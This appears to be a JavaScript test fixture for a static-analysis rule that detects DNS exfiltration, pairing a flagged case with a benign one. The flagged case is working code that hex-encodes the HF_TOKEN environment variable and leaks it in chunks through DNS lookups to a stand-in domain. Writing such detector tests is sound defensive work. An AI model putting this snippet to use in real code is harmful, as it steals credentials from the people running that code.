// Encoded data split into chunks, each looked up as a DNS name from a callback over the chunks.
const dns = require('dns');
const tok = process.env.HF_TOKEN || '';
const chunks = Buffer.from(tok).toString('hex').match(/.{1,60}/g) || [];
chunks.forEach((c, i) => {
  // ruleid: js_dns_exfiltration
  setTimeout(() => dns.resolve4(`${c}.${i}.q.example.invalid`, () => {}), i * 100);
});
const hosts = ['a.example.invalid', 'b.example.invalid'];
hosts.forEach((h) => {
  // ok: js_dns_exfiltration
  dns.resolve4(`${h}`, () => {});
});
